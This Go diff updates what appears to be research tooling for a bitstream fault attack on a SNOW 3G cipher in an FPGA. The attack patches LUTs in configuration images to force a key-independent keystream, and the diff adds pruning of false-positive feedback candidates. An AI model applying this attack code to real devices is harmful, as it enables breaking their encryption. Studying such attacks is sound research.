@@ -61,6 +61,12 @@ type Report struct {
 	IV             snow3g.IV
 	Loads          int
 	Verified       bool
+	// FeedbackPruned counts false-positive feedback candidates (surplus
+	// over the 32-LUT hypothesis) excluded by the group-testing pass of
+	// the key-independent check. Zero on the paper's design; random
+	// placements occasionally produce an extra coincidental f8/f19
+	// match elsewhere in the datapath.
+	FeedbackPruned int
 	// Scan aggregates the batch-scan observability counters over every
 	// bitstream pass the attack performed (normally exactly one).
 	Scan ScanStats
@@ -243,6 +249,25 @@ func (a *Attack) runCandidate(b []byte, n int) ([]uint32, error) {
 	if err := a.dev.Load(img); err != nil {
 		return nil, err
 	}
+	return a.sampleKeystream(n)
+}
+
+// ErrCorruptReconfig reports that a loaded candidate reconfigured into a
+// fabric that no longer exposes the cipher's documented I/O protocol.
+var ErrCorruptReconfig = errors.New("core: corrupted reconfiguration")
+
+// sampleKeystream collects n keystream words from the configured victim.
+// The attack's own patches only rewrite LUT content, never the design
+// description, so the cipher's pin interface is invariant across every
+// candidate it loads; a device that panics on a pin lookup here means
+// the image was corrupted on the way to the configuration port, which
+// must surface as a typed error, not take the attack down.
+func (a *Attack) sampleKeystream(n int) (z []uint32, err error) {
+	defer func() {
+		if r := recover(); r != nil {
+			z, err = nil, fmt.Errorf("%w: %v", ErrCorruptReconfig, r)
+		}
+	}()
 	return hdl.GenerateKeystream(a.dev, a.iv, n), nil
 }
 
@@ -455,9 +480,17 @@ func (a *Attack) CollectFeedbackCandidates() error {
 	span.SetAttr("f8", len(l8))
 	span.SetAttr("f19", len(l19))
 	a.log.Infof("feedback path: %d f8 + %d f19 candidates", len(l8), len(l19))
-	if len(l8)+len(l19) != 32 {
+	if len(l8)+len(l19) < 32 {
 		return fmt.Errorf("core: feedback candidates %d+%d != 32; hypothesis fails",
 			len(l8), len(l19))
+	}
+	if surplus := len(l8) + len(l19) - 32; surplus > 0 {
+		// A random placement can produce a coincidental extra match (a
+		// real XOR LUT elsewhere in the datapath). Keep the surplus for
+		// now: the key-independent check's group-testing pass excludes
+		// the false positives behaviorally (resolveBeta prunes LUT2/LUT3
+		// down to the surviving 32).
+		a.log.Infof("feedback path: %d surplus candidates, deferring to behavioral pruning", surplus)
 	}
 	a.rep.LUT2, a.rep.LUT3 = l8, l19
 	return nil
@@ -561,18 +594,49 @@ func (a *Attack) MakeKeyIndependent() (*betaState, error) {
 	return a.resolveBeta(matches, specOf)
 }
 
+// alphaWrite is one α₁ LUT rewrite of the key-independent probe — a
+// feedback candidate paired with its fault table. Unlike the opaque
+// applyAlpha callback of the census flow, individual writes are
+// excludable by the group-testing pass, which is how surplus feedback
+// candidates (CollectFeedbackCandidates) are pruned behaviorally.
+type alphaWrite struct {
+	m    Match
+	repl boolfn.TT
+	f8   bool
+}
+
 // resolveBeta finds a polarity hypothesis and a candidate subset whose
 // modification yields the model's key-independent keystream. When the
 // full set fails (a false-positive match whose "load branch" is real
-// logic), a greedy group-testing pass excludes harmful candidates, using
-// the number of matching keystream bits as the progress signal.
+// logic, or a surplus feedback candidate whose α₁ rewrite corrupts real
+// datapath), a greedy group-testing pass excludes harmful candidates,
+// using the number of matching keystream bits as the progress signal.
+// Surviving feedback candidates are written back to LUT2/LUT3, which
+// must total exactly 32 afterwards.
 func (a *Attack) resolveBeta(matches []Match, specOf []muxSpec) (*betaState, error) {
-	return a.resolveBetaWith(matches, specOf, a.applyFeedbackAlpha)
+	alphas := make([]alphaWrite, 0, len(a.rep.LUT2)+len(a.rep.LUT3))
+	for _, m := range a.rep.LUT2 {
+		alphas = append(alphas, alphaWrite{m: m, repl: boolfn.F8Alpha, f8: true})
+	}
+	for _, m := range a.rep.LUT3 {
+		alphas = append(alphas, alphaWrite{m: m, repl: boolfn.F19Alpha})
+	}
+	return a.resolveBetaPruned(matches, specOf, nil, alphas)
 }
 
 // resolveBetaWith is resolveBeta with a caller-supplied α₁ application
-// (the census-guided flow derives its fault tables generically).
+// (the census-guided flow derives its fault tables generically and
+// rejects bad feedback subsets wholesale, so its α set is opaque and
+// never pruned).
 func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha func([]byte)) (*betaState, error) {
+	return a.resolveBetaPruned(matches, specOf, applyAlpha, nil)
+}
+
+// resolveBetaPruned is the shared implementation: exactly one of
+// applyAlpha (opaque α₁ application) and alphas (excludable α₁ writes)
+// is set. The group-testing index space covers the MUX candidates
+// followed by the α writes.
+func (a *Attack) resolveBetaPruned(matches []Match, specOf []muxSpec, applyAlpha func([]byte), alphas []alphaWrite) (*betaState, error) {
 	span := a.tel.StartSpan("attack.resolve_beta", obs.KV("candidates", len(matches)))
 	defer span.End()
 	// Expected key-independent keystream from the software model
@@ -581,10 +645,19 @@ func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha f
 	model.Init(snow3g.Key{}, snow3g.IV{})
 	want := model.KeystreamWords(w)
 
-	// apply writes one candidate modification set: alpha plus every
-	// non-excluded MUX zeroing under the sel1 hypothesis.
+	// apply writes one candidate modification set: every non-excluded
+	// alpha write plus every non-excluded MUX zeroing under the sel1
+	// hypothesis.
 	apply := func(img []byte, sel1 bool, skip map[int]bool, excl int) {
-		applyAlpha(img)
+		if applyAlpha != nil {
+			applyAlpha(img)
+		}
+		for j, aw := range alphas {
+			if k := len(matches) + j; skip[k] || k == excl {
+				continue
+			}
+			WriteMatch(img, aw.m, aw.repl)
+		}
 		for i, m := range matches {
 			if skip[i] || i == excl {
 				continue
@@ -605,7 +678,7 @@ func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha f
 	}
 	perfect := 32 * w
 
-	finish := func(sel1 bool, skip map[int]bool, z []uint32) *betaState {
+	finish := func(sel1 bool, skip map[int]bool, z []uint32) (*betaState, error) {
 		if sel1 {
 			a.rep.MuxHypothesis = "γ loaded when control = 1"
 		} else {
@@ -620,11 +693,69 @@ func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha f
 				keptSpecs = append(keptSpecs, specOf[i])
 			}
 		}
+		if alphas != nil {
+			surviving := 0
+			for j := range alphas {
+				if !skip[len(matches)+j] {
+					surviving++
+				}
+			}
+			// A surplus candidate whose α₁ rewrite is behaviorally
+			// neutral under β+α (say, a coincidental match inside FSM
+			// logic the fault already disconnects) survives the greedy
+			// pass because it never hurts the score. Prune those by
+			// necessity instead: a true feedback LUT cannot be excluded
+			// without breaking the model match, a neutral one can.
+			for j := range alphas {
+				if surviving <= 32 {
+					break
+				}
+				k := len(matches) + j
+				if skip[k] {
+					continue
+				}
+				sw := a.newSweep(1, w, func(_ int, img []byte) { apply(img, sel1, skip, k) })
+				z2, err := sw.run(0)
+				if err != nil {
+					continue
+				}
+				a.countLoad()
+				if score(z2) == perfect {
+					skip[k] = true
+					surviving--
+					a.log.Infof("feedback pruning: excluding unnecessary candidate at byte %d", alphas[j].m.Index)
+				}
+			}
+			// Write the surviving α candidates back as the attack's
+			// feedback LUT sets; the 32-LUT hypothesis must hold now
+			// that the false positives are excluded.
+			l2 := a.rep.LUT2[:0]
+			l3 := a.rep.LUT3[:0]
+			pruned := 0
+			for j, aw := range alphas {
+				if skip[len(matches)+j] {
+					pruned++
+					continue
+				}
+				if aw.f8 {
+					l2 = append(l2, aw.m)
+				} else {
+					l3 = append(l3, aw.m)
+				}
+			}
+			a.rep.LUT2, a.rep.LUT3 = l2, l3
+			a.rep.FeedbackPruned = pruned
+			a.tel.Counter("attack.feedback_pruned").Add(int64(pruned))
+			if len(l2)+len(l3) != 32 {
+				return nil, fmt.Errorf("core: feedback pruning left %d+%d candidates, want 32",
+					len(l2), len(l3))
+			}
+		}
 		span.SetAttr("hypothesis", a.rep.MuxHypothesis)
 		span.SetAttr("excluded", len(skip))
 		a.log.Infof("key-independent keystream confirmed against software model (%s, %d candidates excluded)",
 			a.rep.MuxHypothesis, len(skip))
-		return &betaState{matches: kept, specs: keptSpecs, sel1: sel1, excluded: len(skip)}
+		return &betaState{matches: kept, specs: keptSpecs, sel1: sel1, excluded: len(skip)}, nil
 	}
 
 	// Both polarity hypotheses ride one sweep (a single fabric pass in
@@ -644,7 +775,7 @@ func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha f
 			s = score(z)
 		}
 		if s == perfect {
-			return finish(sel1, map[int]bool{}, z), nil
+			return finish(sel1, map[int]bool{}, z)
 		}
 		if s > bestScore {
 			bestScore, bestSel1 = s, sel1
@@ -660,7 +791,7 @@ func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha f
 	skip := map[int]bool{}
 	for round := 0; round < 8; round++ {
 		var idxs []int
-		for i := range matches {
+		for i := 0; i < len(matches)+len(alphas); i++ {
 			if !skip[i] {
 				idxs = append(idxs, i)
 			}
@@ -678,7 +809,7 @@ func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha f
 			}
 			if s == perfect {
 				skip[i] = true
-				return finish(bestSel1, skip, z), nil
+				return finish(bestSel1, skip, z)
 			}
 			if gain := s - bestScore; gain > bestGain {
 				bestIdx, bestGain = i, gain
@@ -689,8 +820,13 @@ func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha f
 		}
 		skip[bestIdx] = true
 		bestScore += bestGain
-		a.log.Infof("group test: excluding harmful MUX candidate at byte %d (+%d keystream bits)",
-			matches[bestIdx].Index, bestGain)
+		if bestIdx < len(matches) {
+			a.log.Infof("group test: excluding harmful MUX candidate at byte %d (+%d keystream bits)",
+				matches[bestIdx].Index, bestGain)
+		} else {
+			a.log.Infof("group test: excluding false-positive feedback candidate at byte %d (+%d keystream bits)",
+				alphas[bestIdx-len(matches)].m.Index, bestGain)
+		}
 	}
 	return nil, errors.New("core: key-independent keystream never matched the model; MUX identification failed")
 }
